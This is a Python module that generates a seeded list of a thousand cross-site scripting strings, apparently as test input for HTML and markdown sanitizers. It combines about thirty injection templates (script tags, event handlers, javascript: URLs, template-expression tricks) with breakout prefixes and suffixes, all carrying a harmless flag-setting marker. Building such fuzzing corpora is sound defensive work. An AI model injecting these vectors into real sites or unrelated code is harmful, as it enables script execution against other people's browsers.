"""A thousand strings that run a script wherever one is taken for markup, made from a few dozen by a seed."""

from __future__ import annotations

import random
from collections.abc import Sequence

#: what each would do; `window.top` reaches the page from within a frame
MARK = "window.top.pwned=1"
SEED = 20261124
_TAGS = (
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    "<img src=x onerror='{js}'>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<body onload={js}>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    '<iframe src="javascript:{js}"></iframe>',
    "<details open ontoggle={js}>x</details>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<marquee onstart={js}>x</marquee>",
    '<a href="javascript:{js}">点我</a>',
    '<math><mi xlink:href="javascript:{js}">x</mi></math>',
    '<object data="javascript:{js}"></object>',
    '<embed src="javascript:{js}">',
    '<form action="javascript:{js}"><button>x</button></form>',
    "<style>@import 'javascript:{js}';</style>",
    '<link rel=stylesheet href="javascript:{js}">',
    '<meta http-equiv=refresh content="0;url=javascript:{js}">',
    '<base href="javascript:{js}//">',
    "<template><script>{js}</script></template>",
    '<noscript><img title="</noscript><img src=x onerror={js}>"></noscript>',
    "[点我](javascript:{js})",
    '![x](x" onerror="{js})',
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{({js})}}",
)
_BEFORE = (
    "", "'>", '">', "</title>", "</textarea>", "</script>", "-->", "]]>", "`", "\\", "&lt;", "订单", "=", "<b>",
)  # fmt: skip
_AFTER = ("", "<!--", "//", "&#x0a;", "'", '"', "退款", "</b>")


def strings(count: int) -> Sequence[str]:
    """That many, no two alike, every tag among the first of them."""
    dice = random.Random(SEED)
    made = dict.fromkeys(tag.format(js=MARK) for tag in _TAGS)
    while len(made) < count:
        text = dice.choice(_BEFORE) + dice.choice(_TAGS).format(js=MARK) + dice.choice(_AFTER)
        if dice.random() < 0.3:
            text = "".join(sign.upper() if dice.random() < 0.3 and sign not in MARK else sign for sign in text)
        made[text] = None
    return list(made)[:count]
